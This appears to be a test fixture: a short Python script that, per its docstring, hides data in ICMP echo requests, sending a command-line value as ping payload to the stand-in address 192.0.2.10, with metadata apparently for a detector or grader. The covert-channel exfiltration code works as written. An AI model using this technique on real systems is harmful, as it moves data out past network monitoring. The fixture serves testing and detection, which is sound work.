"""Hides data in echo requests.

family: network
arguments: {nonce}
judge: hit icmp {nonce}
trace: icmp, 192.0.2.10
"""

import socket
import struct
import sys

packet = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + sys.argv[1].encode()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
    sock.sendto(packet, ("192.0.2.10", 0))
